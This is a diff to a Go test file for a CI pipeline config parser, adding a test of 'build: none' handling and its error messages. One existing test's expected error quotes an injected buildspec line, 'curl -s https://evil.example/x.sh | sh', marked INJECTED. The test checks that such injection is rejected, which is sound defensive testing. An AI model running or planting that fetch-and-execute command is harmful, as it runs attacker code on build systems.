@@ -1,6 +1,7 @@
 package config
 
 import (
+	"strings"
 	"testing"
 )
 
@@ -119,5 +120,34 @@ func TestFieldFailureMultilineBuildspec(t *testing.T) {
 	want := `testdata/field-failures/multiline-buildspec.yaml:11: build.buildspec "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://evil.example/x.sh | sh  # INJECTED\n": ` + notAPath
 	if err == nil || err.Error() != want {
 		t.Errorf("Load() = %v\nwant %s", err, want)
+	}
+}
+
+// TestNoBuild parses `build: none`: no Build stage, nothing of the build
+// defaulted, and what needs a build refused by name with its line.
+func TestNoBuild(t *testing.T) {
+	c, err := Parse("relay.yaml", []byte(edit("deploy:\n", "build: none\ndeploy:\n")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !c.Build.None || c.Build.Buildspec != "" || c.Build.Image != "" {
+		t.Errorf("build = %+v, want None and no defaults", c.Build)
+	}
+	for _, tt := range []struct{ name, input, want string }{
+		{"another word", edit("deploy:\n", "build: skip\ndeploy:\n"),
+			`relay.yaml:9: build: found a string; write none (no Build stage: later actions read the source artifact), a mapping of settings such as {buildspec: ci/buildspec.yml}, or omit build for the defaults`},
+		{"a suite on the build output", edit("deploy:\n", "build: none\ntests: [{name: lint, input: build, commands: [make lint]}]\ndeploy:\n"),
+			`relay.yaml:10: tests[0].input "build": reads the build output, and build is none; use input: source (the repository)`},
+		{"build variables", strings.Replace(edit("deploy:\n", "build: none\ndeploy:\n"), "approval: {}", "approval: {comment: \"#{BuildVariables.Version}\"}", 1),
+			`refers to namespace "BuildVariables", which no earlier action sets`},
+		{"extra sources", edit("deploy:\n", "build: none\nextraSources: [{name: schemas, codecommit: {repository: schemas}}]\ndeploy:\n"),
+			`extraSources "schemas": are inputs of the build, and build is none; remove them, or build`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Parse("relay.yaml", []byte(tt.input))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Parse() error = %v\nwant it to contain %q", err, tt.want)
+			}
+		})
 	}
 }
